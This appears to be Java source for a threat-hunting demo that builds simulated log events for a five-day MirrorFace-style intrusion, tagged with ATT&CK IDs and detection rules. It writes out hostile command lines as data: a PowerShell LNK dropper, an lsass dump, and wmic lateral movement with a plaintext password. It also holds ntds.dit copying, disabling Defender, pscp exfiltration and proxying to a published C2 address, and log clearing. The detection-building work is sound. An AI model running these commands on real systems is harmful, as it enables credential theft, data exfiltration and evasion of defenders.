package kagami.hunt.demo;

import java.time.Instant;
import java.util.ArrayList;
import java.util.List;

/**
 * The attack: a composite of MirrorFace's publicly documented 2024-2025 tradecraft (NPA/NISC 2025, JPCERT/CC 2024,
 * Trend Micro 2024/2025 and Black Hat Asia 2025, ITOCHU 2025, ESET 2022/2025) played against the estate over five
 * days. No real malware or live infrastructure is involved: the events only carry the artefacts defenders look for.
 * Network indicators are the published ones (ESET's LiberalFace address 45.32.13.180 stands in for the C2).
 */
final class AttackChain {
    private static final String C2 = "45.32.13.180";
    private static final String PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    private static final String CMD = "C:\\Windows\\System32\\cmd.exe";
    private static final String TEMPLATES = "C:\\Users\\k.sato\\AppData\\Roaming\\Microsoft\\Templates\\";
    private static final String DEVICESYNC = "C:\\ProgramData\\Microsoft\\DeviceSync\\";
    private static final String PUBLIC_APPDATA = "C:\\Users\\Public\\AppData\\";
    private static final String MSBUILD = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe";
    private static final String HKU_SATO = "HKU\\" + Estate.SATO.sid();
    private static final String DECOY = "国際情勢と日本外交.docx";
    private static final String LNK_SCRIPT = "$t=$($env:APPDATA)+'\\Microsoft\\Templates\\';"
            + "$l=Get-ChildItem *.lnk|Where-Object{$_.Length -eq 0x2F9A3}|Select-Object -First 1;"
            + "$b=[IO.File]::ReadAllBytes($l.FullName);$cabPath=$t+'t.cab';"
            + "[IO.File]::WriteAllBytes($cabPath,$b[0x1A00..($b.Length - 1)]);expand $cabPath -F:* $t;"
            + "$docPath=$t+'" + DECOY + "';Invoke-Item -Path $docPath;Remove-Item -Path $cabPath -Force";

    private final Estate e;
    private final Records r;
    private final List<StepDraft> steps = new ArrayList<>();

    // Processes that live across steps.
    private Proc anel;        // ScnCfg32.exe side-loading ANELLDR on WS01
    private Proc noopdoor;    // wuauclt.exe hosting NOOPDOOR on WS01

    AttackChain(Estate estate, Records records) {
        this.e = estate;
        this.r = records;
    }

    List<StepDraft> generate() {
        day1Delivery();
        day1Persistence();
        day2CredentialsAndLateralMovement();
        day3Sandbox();
        day4TunnelAndExfiltration();
        day5Cleanup();
        return steps;
    }

    private StepDraft step(String id, Host h, List<String> techniques, List<String> rules, List<String> correlations) {
        StepDraft s = new StepDraft(id, h, techniques, rules, correlations);
        steps.add(s);
        return s;
    }

    // ------------------------------------------------------------------------------------------------ day 1

    private void day1Delivery() {
        Host ws = e.ws01;
        String user = Estate.SATO.qualified();
        Instant t = e.at(0, "00:41:55", 900);
        StepDraft s = step("01-lnk-delivery", ws, List.of("T1566.001", "T1204.002", "T1059.001", "T1140"),
                List.of("mf_lnk_powershell_templates_cab", "mf_ps_anel_lnk_markers"), List.of());
        Proc ps = ws.proc(PS, "\"" + PS + "\" -w hidden -c \"" + LNK_SCRIPT + "\"", user);
        s.add(r.processCreate(t, ps, e.explorer(ws)));
        s.add(r.scriptBlock(t.plusMillis(640), ws, Estate.SATO.sid(), LNK_SCRIPT, ""));
        s.add(r.fileCreate(t.plusMillis(910), ps, TEMPLATES + "t.cab"));
        Proc expand = ws.proc("C:\\Windows\\System32\\expand.exe",
                "\"C:\\Windows\\system32\\expand.exe\" " + TEMPLATES + "t.cab -F:* " + TEMPLATES, user);
        s.add(r.processCreate(t.plusMillis(1200), expand, ps));
        for (String f : List.of("ScnCfg32.Exe", "vsodscpl.dll", "Fx9rK2.bin", DECOY)) {
            s.add(r.fileCreate(t.plusMillis(1500), expand, TEMPLATES + f));
        }
        Proc word = ws.proc("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"" + TEMPLATES + DECOY + "\" /o \"\"", user);
        s.add(r.processCreate(t.plusMillis(2600), word, e.explorer(ws)));

        // ROAMINGMOUSE-style launch of the signed McAfee binary through WMI, which side-loads ANELLDR.
        Instant t2 = t.plusSeconds(44);
        StepDraft s2 = step("02-anel-sideload", ws, List.of("T1574.001", "T1047"),
                List.of("mf_scncfg32_unusual_location", "mf_wmiprvse_sideload_host", "mf_vsodscpl_sideload"), List.of());
        s2.add(r.scriptBlock(t2, ws, Estate.SATO.sid(),
                "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList '" + TEMPLATES + "ScnCfg32.Exe'", ""));
        anel = ws.proc(TEMPLATES + "ScnCfg32.Exe", "\"" + TEMPLATES + "ScnCfg32.Exe\"", user);
        s2.add(r.processCreate(t2.plusMillis(300), anel, e.wmi(ws)));
        s2.add(r.imageLoad(t2.plusMillis(420), anel, TEMPLATES + "vsodscpl.dll", "-", false, "-"));
        s2.add(r.connect(t2.plusSeconds(3), anel, C2, 443, ""));
    }

    private void day1Persistence() {
        Host ws = e.ws01;
        Instant t = e.at(0, "05:19:40", 900);
        StepDraft s = step("03-msbuild-task-persistence", ws, List.of("T1053.005", "T1127.001"),
                List.of("mf_schtasks_msbuild_or_sandbox", "mf_scheduled_task_msbuild_xml"),
                List.of("mr_lnk_sideload_persistence"));
        s.add(r.fileCreate(t, anel, DEVICESYNC + "hello.xml"));
        s.add(r.fileCreate(t.plusMillis(350), anel, DEVICESYNC + "hello.bin"));
        String create = "schtasks /create /tn Hello /tr \"" + MSBUILD + " " + DEVICESYNC + "hello.xml\" /sc minute /mo 5 /ru System /f";
        Proc cmd = ws.proc(CMD, "C:\\Windows\\system32\\cmd.exe /c " + create, Estate.SATO.qualified());
        s.add(r.processCreate(t.plusSeconds(12), cmd, anel));
        Proc schtasks = ws.proc("C:\\Windows\\System32\\schtasks.exe", create, Estate.SATO.qualified());
        s.add(r.processCreate(t.plusSeconds(12).plusMillis(80), schtasks, cmd));
        Instant reg = t.plusSeconds(12).plusMillis(400);
        s.add(r.taskCreated(reg, ws, "k.sato", Estate.SATO.sid(), "\\Hello", TaskXml.repeating(MSBUILD, DEVICESYNC + "hello.xml",
                "2025-06-16T14:20:00", "THINKTANK\\k.sato")));
        s.add(r.task(reg.plusMillis(20), ws, 106, "TaskRegisteredEvent", TaskXml.map("TaskName", "\\Hello", "UserContext", "THINKTANK\\k.sato")));

        // First run of the task: NOOPLDR (MSBuild inline task) stores NOOPDOOR in the registry and injects it.
        Instant run = e.at(0, "05:25:00", 400);
        StepDraft s4 = step("04-noopldr-msbuild-injection", ws, List.of("T1127.001", "T1055", "T1053.005"),
                List.of("mf_msbuild_xml_from_task", "mf_taskscheduler_msbuild_action", "mf_injection_target_unusual_parent",
                        "mf_msbuild_remote_thread_noopldr_targets"),
                List.of("mr_msbuild_loader_injection"));
        String instance = "{" + ws.guid() + "}";
        s4.add(r.task(run, ws, 100, "TaskStartEvent", TaskXml.map("TaskName", "\\Hello", "UserContext", "NT AUTHORITY\\System",
                "InstanceId", instance)));
        Proc msbuild = ws.proc(MSBUILD, MSBUILD + " " + DEVICESYNC + "hello.xml", Host.SYSTEM);
        s4.add(r.task(run.plusMillis(5), ws, 129, "CreatedTaskProcess", TaskXml.map("TaskName", "\\Hello", "Path", MSBUILD,
                "ProcessID", msbuild.pid(), "Priority", 16384)));
        s4.add(r.task(run.plusMillis(9), ws, 200, "ActionStart", TaskXml.map("TaskName", "\\Hello", "ActionName", MSBUILD,
                "TaskInstanceId", instance)));
        s4.add(r.processCreate(run.plusMillis(12), msbuild, e.scheduler(ws)));
        noopdoor = ws.proc("C:\\Windows\\System32\\wuauclt.exe", "C:\\Windows\\System32\\wuauclt.exe", Host.SYSTEM);
        s4.add(r.processCreate(run.plusSeconds(1).plusMillis(900), noopdoor, msbuild));
        s4.add(r.remoteThread(run.plusSeconds(2).plusMillis(118), msbuild, noopdoor, "0x000001F4A2B70000", "-", "-"));
        s4.add(r.connect(run.plusSeconds(9), noopdoor, C2, 443, ""));

        StepDraft s5 = step("05-registry-payload", ws, List.of("T1112", "T1027.011"),
                List.of("mf_noopldr_com3_payload", "mf_noopdoor_binary_payload_keys"), List.of());
        s5.add(r.registrySet(run.plusSeconds(1).plusMillis(100), msbuild,
                HKU_SATO + "\\SOFTWARE\\Microsoft\\COM3\\8c1f5e02a7d3", "Binary Data"));
        s5.add(r.fileCreate(run.plusSeconds(1).plusMillis(300), msbuild, DEVICESYNC + "hello.bin"));

        Instant fw = run.plusSeconds(3).plusMillis(400);
        StepDraft s6 = step("06-noopdoor-firewall-rule", ws, List.of("T1686.003", "T1571"),
                List.of("mf_firewall_rule_tcp47000_registry", "mf_firewall_rule_tcp47000"), List.of());
        s6.add(r.registrySet(fw, e.firewallService(ws),
                "HKLM\\System\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy\\FirewallRules\\{"
                        + ws.guid() + "}", "v2.31|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort=47000|Name=Cortana|"));
        s6.add(r.firewallRuleAdded(fw.plusMillis(2), ws, "Cortana", "47000", 1, 3, "", noopdoor.image()));
    }

    // ------------------------------------------------------------------------------------------------ day 2

    private void day2CredentialsAndLateralMovement() {
        Host ws = e.ws01;
        Instant t = e.at(1, "01:05:10", 500);
        StepDraft recon = step("07-discovery-burst", ws, List.of("T1057", "T1033", "T1087.002", "T1482", "T1016"),
                List.of("mf_recon_from_implant_host", "mf_recon_native_tool"), List.of("mr_recon_burst"));
        String[][] tools = {{"tasklist.exe", "tasklist /v"}, {"whoami.exe", "whoami /all"},
                {"net.exe", "net localgroup administrators"}, {"net.exe", "net user /domain"},
                {"nltest.exe", "nltest /domain_trusts"}, {"ipconfig.exe", "ipconfig /all"}, {"quser.exe", "quser"}};
        for (int i = 0; i < tools.length; i++) {
            Proc p = ws.proc("C:\\Windows\\System32\\" + tools[i][0], tools[i][1], Host.SYSTEM);
            Instant when = t.plusSeconds(31L * i);
            recon.add(r.processCreate(when, p, noopdoor));
            if (tools[i][0].equals("net.exe")) {
                Proc net1 = ws.proc("C:\\Windows\\System32\\net1.exe", "C:\\Windows\\system32\\net1 " + tools[i][1].substring(4), Host.SYSTEM);
                recon.add(r.processCreate(when.plusMillis(40), net1, p));
            }
        }

        StepDraft stealer = step("08-mirrorstealer", ws, List.of("T1555", "T1555.003", "T1074.001"),
                List.of("mf_mirrorstealer_output"), List.of());
        stealer.add(r.fileCreate(e.at(1, "01:20:33", 900), noopdoor, "C:\\Windows\\Temp\\31558.txt"));

        Instant dump = e.at(1, "02:40:18", 900);
        StepDraft cred = step("09-lsass-dump", ws, List.of("T1003.001"), List.of("mf_lsass_dump_access"), List.of());
        Proc rundll = ws.proc("C:\\Windows\\System32\\rundll32.exe",
                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump " + e.lsass(ws).pid() + " C:\\Windows\\Temp\\lsass.dmp full",
                Host.SYSTEM);
        cred.add(r.processCreate(dump, rundll, noopdoor));
        cred.add(r.processAccess(dump.plusMillis(220), rundll, e.lsass(ws), "0x1fffff",
                "C:\\Windows\\SYSTEM32\\ntdll.dll+9f5e4|C:\\Windows\\System32\\KERNELBASE.dll+3c0be|C:\\Windows\\System32\\comsvcs.dll+4d3ab|UNKNOWN(000001F4A2B71230)"));
        cred.add(r.fileCreate(dump.plusMillis(900), rundll, "C:\\Windows\\Temp\\lsass.dmp"));

        StepDraft kerb = step("10-rubeus-kerberoast", ws, List.of("T1558.003"), List.of("mf_rubeus_cli"), List.of());
        String rubeus = "C:\\Users\\Public\\Libraries\\msedgeupd.exe";
        kerb.add(r.fileCreate(e.at(1, "02:54:40", 500), noopdoor, rubeus));
        Proc rb = ws.proc(rubeus, rubeus + " kerberoast /outfile:C:\\Users\\Public\\Libraries\\h.txt /nowrap", Host.SYSTEM,
                new VersionInfo("1.0.0.0", "Rubeus", "Rubeus", "", "Rubeus.exe"));
        kerb.add(r.processCreate(e.at(1, "02:55:03", 500), rb, noopdoor));

        // Lateral movement with the domain administrator's stolen credentials.
        Host dc = e.dc01;
        Instant w1 = e.at(1, "03:10:02", 300);
        StepDraft wmic = step("11-wmic-lateral-movement", ws, List.of("T1047", "T1021"),
                List.of("mf_wmic_remote_process_create", "mf_shadowcopy_ntds_sam_copy"),
                List.of("mr_credential_access_then_lateral"));
        String creds = "/user:THINKTANK\\adm-y.suzuki /password:Tt#2025summer ";
        Proc wmic1 = ws.proc("C:\\Windows\\System32\\wbem\\WMIC.exe",
                "wmic /node:TT-DC01 " + creds + "process call create \"cmd.exe /c vssadmin create shadow /for=C:\"", Host.SYSTEM);
        wmic.add(r.processCreate(w1, wmic1, noopdoor));
        wmic.add(r.connect(w1.plusMillis(300), wmic1, dc.ip(), 135, dc.name()));
        Proc wmic2 = ws.proc("C:\\Windows\\System32\\wbem\\WMIC.exe",
                "wmic /node:TT-DC01 " + creds + "process call create \"cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\Windows\\Temp\\nt.dat & copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SYSTEM C:\\Windows\\Temp\\sy.dat\"",
                Host.SYSTEM);
        wmic.add(r.processCreate(w1.plusSeconds(150), wmic2, noopdoor));

        StepDraft ntds = step("12-ntds-shadow-copy", dc, List.of("T1003.003", "T1003.002"),
                List.of("mf_shadowcopy_ntds_sam_copy"), List.of());
        String admin = Estate.ADMIN.qualified();
        ntds.add(r.logon(w1.plusMillis(600), dc, Estate.DOMAIN, Estate.ADMIN.name(), Estate.ADMIN.sid(), 3, ws.ip(), "-"));
        Proc c1 = dc.proc(CMD, "cmd.exe /c vssadmin create shadow /for=C:", admin);
        ntds.add(r.processCreate(w1.plusMillis(900), c1, e.wmi(dc)));
        Proc vss = dc.proc("C:\\Windows\\System32\\vssadmin.exe", "vssadmin  create shadow /for=C:", admin);
        ntds.add(r.processCreate(w1.plusMillis(960), vss, c1));
        Proc c2 = dc.proc(CMD, wmic2.commandLine().substring(wmic2.commandLine().indexOf("\"cmd.exe") + 1,
                wmic2.commandLine().length() - 1), admin);
        ntds.add(r.processCreate(w1.plusSeconds(150).plusMillis(700), c2, e.wmi(dc)));
        ntds.add(r.fileCreate(w1.plusSeconds(152), c2, "C:\\Windows\\Temp\\nt.dat"));

        Host fs = e.fs01;
        Instant smb = e.at(1, "03:30:12", 500);
        StepDraft copy = step("13-smb-tool-transfer", fs, List.of("T1021.002", "T1570"),
                List.of("mf_smb_admin_share_payload_write"), List.of());
        copy.add(r.logon(smb.minusMillis(300), fs, Estate.DOMAIN, Estate.ADMIN.name(), Estate.ADMIN.sid(), 3, ws.ip(), "-"));
        copy.add(r.shareAccess(smb.minusMillis(200), fs, Estate.ADMIN.name(), Estate.ADMIN.sid(), ws.ip(), "\\\\*\\ADMIN$",
                "\\??\\C:\\Windows", null, null, null));
        for (String f : List.of("Temp\\hello.xml", "Temp\\hello.bin")) {
            copy.add(r.shareAccess(smb, fs, Estate.ADMIN.name(), Estate.ADMIN.sid(), ws.ip(), "\\\\*\\ADMIN$", "\\??\\C:\\Windows", f,
                    "0x2", "%%4417\r\n\t\t\t\t"));
        }

        StepDraft rdp = step("14-rdp-to-file-server", fs, List.of("T1021.001"), List.of("mf_rdp_logon"), List.of());
        rdp.add(r.logon(e.at(1, "03:35:44", 500), fs, Estate.DOMAIN, Estate.ADMIN.name(), Estate.ADMIN.sid(), 10, ws.ip(),
                "C:\\Windows\\System32\\svchost.exe"));
    }

    // ------------------------------------------------------------------------------------------------ day 3

    private void day3Sandbox() {
        Host ws = e.ws01;
        Instant t = e.at(2, "01:10:20", 500);
        StepDraft def = step("15-defender-disabled", ws, List.of("T1685"),
                List.of("mf_defender_disable_cli", "mf_defender_disable_registry"), List.of());
        Proc ps = ws.proc(PS, "powershell.exe -nop -c \"Set-MpPreference -DisableRealtimeMonitoring $true -DisableScriptScanning $true\"",
                Host.SYSTEM);
        def.add(r.processCreate(t, ps, noopdoor));
        def.add(r.registrySet(t.plusMillis(680), e.defender(ws),
                "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring", "DWORD (0x00000001)"));

        Instant en = e.at(2, "01:12:44", 500);
        StepDraft enable = step("16-sandbox-feature-enabled", ws, List.of("T1564.006"),
                List.of("mf_sandbox_feature_enable_cli", "mf_sandbox_feature_enable_ps"), List.of());
        String feature = "Enable-WindowsOptionalFeature -FeatureName Containers-DisposableClientVM -All -Online -NoRestart";
        Proc cmd = ws.proc(CMD, "cmd.exe /c powershell.exe -nop -c \"" + feature + "\"", Host.SYSTEM);
        enable.add(r.processCreate(en, cmd, noopdoor));
        Proc ps2 = ws.proc(PS, "powershell.exe -nop -c \"" + feature + "\"", Host.SYSTEM);
        enable.add(r.processCreate(en.plusMillis(60), ps2, cmd));
        enable.add(r.scriptBlock(en.plusMillis(700), ws, "S-1-5-18", feature, ""));

        Instant st = e.at(2, "01:13:30", 500);
        StepDraft stage = step("17-sandbox-staging-and-config", ws, List.of("T1564.006", "T1074.001", "T1036.005"),
                List.of("mf_public_appdata_staging", "mf_msiexec_named_file", "mf_wsb_file_unusual_location"), List.of());
        for (String f : List.of("msiexec.bat", "msiexec.txt", "msiexec.dat")) {
            stage.add(r.fileCreate(st, noopdoor, PUBLIC_APPDATA + f));
            st = st.plusMillis(420);
        }
        // default.wsb: networking on, C:\\Users mapped read-write to the guest, logon command running msiexec.bat
        // (Trend Micro BH Asia 2025); the file content is not visible in Sysmon 11, only its creation.
        stage.add(r.fileCreate(st.plusSeconds(30), noopdoor, "C:\\Windows\\System32\\default.wsb"));

        Instant tk = e.at(2, "01:14:20", 500);
        StepDraft task = step("18-sandbox-system-task", ws, List.of("T1053.005", "T1564.006"),
                List.of("mf_schtasks_msbuild_or_sandbox", "mf_scheduled_task_sandbox"), List.of());
        String create = "schtasks /create /tn SandboxUpdate /tr \"c:\\windows\\system32\\WindowsSandbox.exe c:\\windows\\system32\\default.wsb\" /sc onstart /ru SYSTEM /f";
        Proc schtasks = ws.proc("C:\\Windows\\System32\\schtasks.exe", create, Host.SYSTEM);
        task.add(r.processCreate(tk, schtasks, noopdoor));
        task.add(r.taskCreated(tk.plusMillis(300), ws, ws.shortName() + "$", "S-1-5-18", "\\SandboxUpdate",
                TaskXml.boot("c:\\windows\\system32\\WindowsSandbox.exe", "c:\\windows\\system32\\default.wsb")));
        task.add(r.task(tk.plusMillis(320), ws, 106, "TaskRegisteredEvent", TaskXml.map("TaskName", "\\SandboxUpdate",
                "UserContext", "NT AUTHORITY\\System")));

        // The feature needs a reboot; the boot task then starts the sandbox as SYSTEM, with no window for the user.
        r.reboot(e.at(2, "01:29:40", 0), ws, "C:\\Windows\\System32\\shutdown.exe (TT-WS01)", "NT AUTHORITY\\SYSTEM");
        Instant boot = e.at(2, "01:31:09", 400);
        StepDraft launch = step("19-sandbox-launched-as-system", ws, List.of("T1564.006", "T1053.005"),
                List.of("mf_taskscheduler_sandbox_action", "mf_sandbox_launch_system", "mf_sandbox_launch_noninteractive",
                        "mf_sandbox_wsb_unusual_path"),
                List.of("mr_sandbox_enable_drop_launch"));
        String sandbox = "c:\\windows\\system32\\WindowsSandbox.exe";
        Proc wsb = ws.proc("C:\\Windows\\System32\\WindowsSandbox.exe", sandbox + " c:\\windows\\system32\\default.wsb", Host.SYSTEM);
        launch.add(r.task(boot, ws, 129, "CreatedTaskProcess", TaskXml.map("TaskName", "\\SandboxUpdate", "Path", sandbox,
                "ProcessID", wsb.pid(), "Priority", 16384)));
        launch.add(r.task(boot.plusMillis(4), ws, 200, "ActionStart", TaskXml.map("TaskName", "\\SandboxUpdate",
                "ActionName", sandbox, "TaskInstanceId", "{" + ws.guid() + "}")));
        launch.add(r.processCreate(boot.plusMillis(10), wsb, e.scheduler(ws)));
        Proc client = ws.proc("C:\\Windows\\System32\\WindowsSandboxClient.exe",
                "\"C:\\Windows\\System32\\WindowsSandboxClient.exe\" --id " + ws.guid().toLowerCase(java.util.Locale.ROOT), Host.SYSTEM);
        launch.add(r.processCreate(boot.plusSeconds(2), client, wsb));

        // NOOPDOOR comes back after the reboot through the Hello task; the operator then uses its passive listener.
        StepDraft passive = step("20-noopdoor-relaunch-passive-connection", ws, List.of("T1127.001", "T1055", "T1571", "T1095"),
                List.of("mf_msbuild_xml_from_task", "mf_taskscheduler_msbuild_action", "mf_injection_target_unusual_parent",
                        "mf_msbuild_remote_thread_noopldr_targets", "mf_inbound_tcp47000"),
                List.of("mr_noopdoor_passive_listener"));
        Instant rerun = e.at(2, "01:35:00", 400);
        Proc msbuild = ws.proc(MSBUILD, MSBUILD + " " + DEVICESYNC + "hello.xml", Host.SYSTEM);
        passive.add(r.task(rerun, ws, 129, "CreatedTaskProcess", TaskXml.map("TaskName", "\\Hello", "Path", MSBUILD,
                "ProcessID", msbuild.pid(), "Priority", 16384)));
        passive.add(r.task(rerun.plusMillis(4), ws, 200, "ActionStart", TaskXml.map("TaskName", "\\Hello", "ActionName", MSBUILD,
                "TaskInstanceId", "{" + ws.guid() + "}")));
        passive.add(r.processCreate(rerun.plusMillis(9), msbuild, e.scheduler(ws)));
        noopdoor = ws.proc("C:\\Windows\\System32\\wuauclt.exe", "C:\\Windows\\System32\\wuauclt.exe", Host.SYSTEM);
        passive.add(r.processCreate(rerun.plusSeconds(2), noopdoor, msbuild));
        passive.add(r.remoteThread(rerun.plusSeconds(2).plusMillis(210), msbuild, noopdoor, "0x0000020B11C40000", "-", "-"));
        passive.add(r.networkConnect(e.at(2, "02:30:10", 500), noopdoor, false, e.fs01.ip(), e.fs01.port(), e.fs01.name(),
                ws.ip(), 47000, ws.name()));

        StepDraft proxy = step("21-gost-proxy", ws, List.of("T1090"), List.of("mf_frp_gost_proxy"), List.of());
        String gost = "C:\\Users\\Public\\Libraries\\svchost.exe";
        proxy.add(r.fileCreate(e.at(2, "03:39:40", 500), noopdoor, gost));
        Proc g = ws.proc(gost, gost + " -L=socks5://127.0.0.1:1080 -F=tls://" + C2 + ":443", Host.SYSTEM, VersionInfo.none());
        proxy.add(r.processCreate(e.at(2, "03:40:02", 500), g, noopdoor));
        proxy.add(r.connect(e.at(2, "03:40:04", 500), g, C2, 443, ""));
    }

    // ------------------------------------------------------------------------------------------------ day 4

    private void day4TunnelAndExfiltration() {
        Host fs = e.fs01;
        String code = "C:\\ProgramData\\Microsoft\\DeviceSync\\code.exe";
        Instant t = e.at(3, "06:18:02", 500);
        StepDraft tunnel = step("22-vscode-tunnel", fs, List.of("T1219.001", "T1572"),
                List.of("mf_vscode_cli_unusual_location", "mf_vscode_tunnel_execution", "mf_vscode_tunnel_state_files",
                        "mf_vscode_tunnel_dns", "mf_vscode_tunnel_network"),
                List.of("mr_vscode_tunnel_setup"));
        tunnel.add(r.shareAccess(t, fs, Estate.ADMIN.name(), Estate.ADMIN.sid(), e.ws01.ip(), "\\\\*\\C$", "\\??\\C:\\",
                "ProgramData\\Microsoft\\DeviceSync\\code.exe", "0x2", "%%4417\r\n\t\t\t\t"));
        Proc cmd = fs.proc(CMD, "cmd.exe /c " + code + " tunnel user login --provider github", Host.SYSTEM);
        tunnel.add(r.processCreate(t.plusSeconds(100), cmd, e.wmi(fs)));
        Proc login = fs.proc(code, code + " tunnel user login --provider github", Host.SYSTEM);
        tunnel.add(r.processCreate(t.plusSeconds(100).plusMillis(50), login, cmd));
        tunnel.add(r.dnsQuery(t.plusSeconds(101), login, "github.com", "::ffff:20.27.177.113;"));
        tunnel.add(r.fileCreate(t.plusSeconds(150), login, "C:\\Windows\\system32\\config\\systemprofile\\.vscode-cli\\token.json"));
        Instant start = e.at(3, "06:20:41", 300);
        Proc cmd2 = fs.proc(CMD, "cmd.exe /c " + code + " tunnel --accept-server-license-terms --name tt-fs01-sync", Host.SYSTEM);
        tunnel.add(r.processCreate(start.minusMillis(60), cmd2, e.wmi(fs)));
        Proc run = fs.proc(code, code + " tunnel --accept-server-license-terms --name tt-fs01-sync", Host.SYSTEM);
        tunnel.add(r.processCreate(start, run, cmd2));
        tunnel.add(r.dnsQuery(start.plusMillis(790), run, "global.rel.tunnels.api.visualstudio.com",
                "type:  5 tunnels-prod-rel-tm.trafficmanager.net;type:  5 tunnels-prod-rel-jpe1-v3.cloudapp.net;::ffff:20.194.181.10;"));
        tunnel.add(r.connect(start.plusMillis(1580), run, "20.194.181.10", 443, "tunnels-prod-rel-jpe1-v3.jpe1.rel.tunnels.api.visualstudio.com"));
        tunnel.add(r.fileCreate(start.plusSeconds(89), run, "C:\\Windows\\system32\\config\\systemprofile\\.vscode-cli\\code_tunnel.json"));

        Instant svc = e.at(3, "06:24:03", 300);
        StepDraft service = step("23-vscode-tunnel-service", fs, List.of("T1219.001", "T1543.003"),
                List.of("mf_vscode_tunnel_service_install", "mf_vscode_tunnel_service_installed", "mf_vscode_tunnel_execution",
                        "mf_vscode_cli_unusual_location"), List.of());
        Proc install = fs.proc(code, code + " tunnel service install --accept-server-license-terms --name tt-fs01-sync", Host.SYSTEM);
        service.add(r.processCreate(svc, install, e.wmi(fs)));
        String internal = "\"" + code + "\" --verbose --cli-data-dir \"C:\\Windows\\system32\\config\\systemprofile\\.vscode-cli\" tunnel service internal-run";
        service.add(r.serviceInstalled(svc.plusSeconds(1), fs, "code-tunnel", internal, "auto start", "LocalSystem"));
        Proc svcRun = fs.proc(code, internal, Host.SYSTEM);
        service.add(r.processCreate(svc.plusSeconds(1).plusMillis(300), svcRun, e.services(fs)));

        Instant sh = e.at(3, "06:31:15", 300);
        StepDraft shell = step("24-vscode-tunnel-shell", fs, List.of("T1059.001", "T1219.001"),
                List.of("mf_vscode_tunnel_remote_shell", "mf_recon_native_tool"), List.of());
        String server = "C:\\Windows\\system32\\config\\systemprofile\\.vscode-server\\cli\\servers\\Stable-dfaf44141ea9deb3b4096f7cd6d24e00c147a4b1\\server\\";
        Proc node = fs.proc(server + "node.exe", server + "node.exe --dns-result-order=ipv4first " + server
                + "out\\bootstrap-fork --type=ptyHost", Host.SYSTEM);
        shell.add(r.processCreate(sh.minusSeconds(20), node, svcRun));
        Proc pwsh = fs.proc(PS, PS + " -noexit -command \"try { . \\\"" + server.toLowerCase(java.util.Locale.ROOT)
                + "out\\vs\\workbench\\contrib\\terminal\\common\\scripts\\shellIntegration.ps1\\\" } catch {}\"", Host.SYSTEM);
        shell.add(r.processCreate(sh, pwsh, node));
        Proc who = fs.proc("C:\\Windows\\System32\\whoami.exe", "\"C:\\Windows\\system32\\whoami.exe\" /priv", Host.SYSTEM);
        shell.add(r.processCreate(sh.plusSeconds(12), who, pwsh));

        // Staging and exfiltration of the research share, driven from the tunnel shell.
        Instant dec = e.at(3, "07:01:38", 300);
        StepDraft decode = step("25-decode-renamed-winrar", fs, List.of("T1140", "T1036.008", "T1036.005"),
                List.of("mf_certutil_decode_executable", "mf_msiexec_named_file", "mf_public_appdata_staging"), List.of());
        decode.add(r.fileCreate(dec.minusSeconds(40), node, PUBLIC_APPDATA + "msiexec.txt"));
        Proc certutil = fs.proc("C:\\Windows\\System32\\certutil.exe",
                "certutil -decode " + PUBLIC_APPDATA + "msiexec.txt " + PUBLIC_APPDATA + "msiexec.exe", Host.SYSTEM,
                new VersionInfo("10.0.20348.3451 (WinBuild.160101.0800)", "CertUtil.exe", "Microsoft® Windows® Operating System",
                        "Microsoft Corporation", "CertUtil.exe"));
        decode.add(r.processCreate(dec, certutil, pwsh));
        decode.add(r.fileCreate(dec.plusMillis(480), certutil, PUBLIC_APPDATA + "msiexec.exe"));

        Instant arc = e.at(3, "07:02:10", 300);
        StepDraft archive = step("26-archive-research-share", fs, List.of("T1560.001", "T1036.003"),
                List.of("mf_renamed_winrar", "mf_rar_password_archive", "mf_public_appdata_staging"), List.of());
        Proc rar = fs.proc(PUBLIC_APPDATA + "msiexec.exe", PUBLIC_APPDATA + "msiexec.exe a -hpTT2025!x -r -m5 " + PUBLIC_APPDATA
                + "d1.dat \"D:\\Shares\\Research\\*.docx\" \"D:\\Shares\\Research\\*.jtd\" \"D:\\Shares\\Research\\*.pdf\"",
                Host.SYSTEM, VersionInfo.of("Rar.exe"));
        archive.add(r.processCreate(arc, rar, pwsh));
        archive.add(r.fileCreate(arc.plusSeconds(95), rar, PUBLIC_APPDATA + "d1.dat"));

        Instant ex = e.at(3, "07:20:44", 300);
        StepDraft exfil = step("27-exfiltration-pscp", fs, List.of("T1048", "T1105"), List.of("mf_putty_scp_sftp", "mf_public_appdata_staging"),
                List.of("mr_archive_then_exfil"));
        String pscp = PUBLIC_APPDATA + "pscp.exe";
        exfil.add(r.fileCreate(ex.minusSeconds(30), node, pscp));
        Proc p = fs.proc(pscp, pscp + " -batch -P 22 -pw Zx81!kq " + PUBLIC_APPDATA + "d1.dat upd@" + C2 + ":/var/tmp/", Host.SYSTEM);
        exfil.add(r.processCreate(ex, p, pwsh));
        exfil.add(r.connect(ex.plusMillis(600), p, C2, 22, ""));
    }

    // ------------------------------------------------------------------------------------------------ day 5

    private void day5Cleanup() {
        Host fs = e.fs01;
        Instant t = e.at(4, "01:10:01", 300);
        StepDraft clear = step("28-log-clearing", fs, List.of("T1685.005"),
                List.of("mf_wevtutil_clear_log", "mf_security_log_cleared", "mf_system_event_log_cleared"),
                List.of("mr_exfil_then_log_clearing"));
        Proc cmd = fs.proc(CMD, "cmd.exe /c wevtutil cl Security & wevtutil cl Microsoft-Windows-Sysmon/Operational", Host.SYSTEM);
        clear.add(r.processCreate(t.minusMillis(200), cmd, e.wmi(fs)));
        Proc w1 = fs.proc("C:\\Windows\\System32\\wevtutil.exe", "wevtutil cl Security", Host.SYSTEM);
        clear.add(r.processCreate(t, w1, cmd));
        clear.add(r.securityLogCleared(t.plusMillis(300), fs, fs.shortName() + "$", "S-1-5-18"));
